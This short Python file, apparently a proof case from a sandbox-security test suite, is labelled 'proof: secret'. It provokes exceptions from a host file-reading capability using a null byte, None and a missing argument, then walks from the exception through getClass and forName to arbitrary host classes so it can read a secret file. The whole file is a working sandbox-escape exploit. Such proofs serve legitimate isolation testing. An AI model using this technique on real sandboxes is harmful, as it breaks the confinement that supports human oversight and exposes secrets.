# proof: secret
# Makes the host throw, and climbs from its exception to every class.
from routes import first, read_with


def provoked(call):
    try:
        call()
    except BaseException as error:
        return error
    raise LookupError("the host does not throw")


def climb(call, path):
    error = provoked(call)
    return read_with(lambda name: getattr(getattr(error.getClass().getClass(), "static").forName(name), "static"), path)


def attempt(input, caps):
    path = input["secretFile"]
    return first(
        lambda: climb(lambda: caps.files.read_text("\0"), path),
        lambda: climb(lambda: caps.files.read_text(None), path),
        lambda: climb(lambda: caps.files.read_text(), path),
    )
